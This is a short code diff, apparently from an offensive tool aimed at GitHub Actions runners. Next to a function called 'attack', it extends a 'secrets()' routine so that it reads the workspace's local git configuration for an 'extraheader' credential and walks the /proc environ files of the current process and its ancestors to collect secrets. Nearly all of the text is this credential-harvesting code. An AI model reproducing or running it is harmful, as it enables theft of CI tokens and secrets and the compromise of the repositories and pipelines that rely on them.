@@ -26,8 +26,10 @@ def attack(who: str) -> None:
 
 
 def secrets() -> list[str]:
-    """Return the secrets in the environments of this process and of its ancestors."""
-    found, process = [], "self"
+    """Return the secrets in git's configuration, and in the environments of this process and of its ancestors."""
+    git = ["git", "-C", os.environ["GITHUB_WORKSPACE"], "config", "--local", "--includes", "--list"]
+    settings = subprocess.run(git, capture_output=True, text=True, check=True).stdout
+    found, process = ["extraheader"] if "extraheader" in settings else [], "self"
     while process != "0":
         try:
             environ = Path(f"/proc/{process}/environ").read_bytes().decode("utf-8", "replace")
